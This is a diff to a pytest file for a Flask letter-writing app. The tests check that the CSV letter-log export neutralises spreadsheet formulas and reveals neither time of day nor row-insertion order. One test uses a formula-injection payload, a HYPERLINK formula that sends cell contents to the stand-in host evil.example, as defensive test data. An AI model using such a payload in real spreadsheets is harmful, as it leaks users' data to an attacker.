@@ -11,7 +11,14 @@ from datetime import date, timedelta
 from typing import Any
 
 import pytest
-from conftest import count_statements, inline_scripts, make_facility, make_person, make_prisoner
+from conftest import (
+    count_statements,
+    csrf_token,
+    inline_scripts,
+    make_facility,
+    make_person,
+    make_prisoner,
+)
 from flask import Flask
 from flask.testing import FlaskClient
 from sqlalchemy import select
@@ -20,6 +27,7 @@ from werkzeug.http import parse_options_header
 from letters.dashboard import chart
 from letters.dashboard import services as dashboard
 from letters.extensions import db
+from letters.letterlog.export import letter_log_csv
 from letters.mail import services as mail
 from letters.models import (
     Campaign,
@@ -405,7 +413,7 @@ def test_letter_log_exports_inert_cells_and_no_volunteer_identity(
         "letters",
         "via",
         "campaign",
-        "recorded_at_utc",
+        "recorded_on",
     ]
     assert [row[:2] for row in rows[1:]] == [
         ["2025-03-01", str(plain_id)],
@@ -414,7 +422,41 @@ def test_letter_log_exports_inert_cells_and_no_volunteer_identity(
     trap_row = rows[2]
     assert trap_row[2] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click") Trap'
     assert trap_row[3:6] == ["2", "coordinator", "'+SUM(1,1)"]
-    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00", trap_row[6])
+    assert trap_row[6] == date.today().isoformat()  # the day it was entered, no time of day
     assert rows[1][2:6] == ["A Plain", "1", "web", ""]
     # No cell anywhere starts a formula.
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
+def test_the_letter_log_after_an_anonymous_i_sent_it_holds_no_time_of_day(
+    app: Flask, client: FlaskClient, auth: Any
+) -> None:
+    prisoner = make_person("Anon")
+    prisoner_id = prisoner.id
+    db.session.commit()
+    token = csrf_token(client, f"/prisoners/{prisoner_id}")
+    assert (
+        client.post(f"/prisoners/{prisoner_id}/sent", data={"csrf_token": token}).status_code == 302
+    )
+    auth.create_and_login()
+    text = client.get("/manage/letters.csv").get_data().decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    today = date.today().isoformat()
+    assert rows[1] == [today, str(prisoner_id), "A Anon", "1", "web", "", today]
+    assert not re.search(r"\d\d:\d\d", text)
+
+
+def test_the_letter_log_is_ordered_by_what_it_says_not_by_when_rows_were_added(
+    app: Flask, client: FlaskClient, auth: Any
+) -> None:
+    """Insert order beside an ISP's log of who reached the site in what order would link
+    rows to visitors: the export's order must not show it."""
+    auth.create_and_login()
+    first, second = make_person("Zeta"), make_person("Alpha")
+    day = date(2025, 3, 1)
+    for prisoner in (second, first, second):  # inserted Alpha, Zeta, Alpha
+        db.session.add(LetterSent(prisoner_id=prisoner.id, sent_on=day, recorded_on=day))
+    db.session.commit()
+    inserted = [second.id, first.id, second.id]
+    rows = list(csv.reader(io.StringIO(letter_log_csv(), newline="")))[1:]
+    assert [int(row[1]) for row in rows] == sorted(inserted)
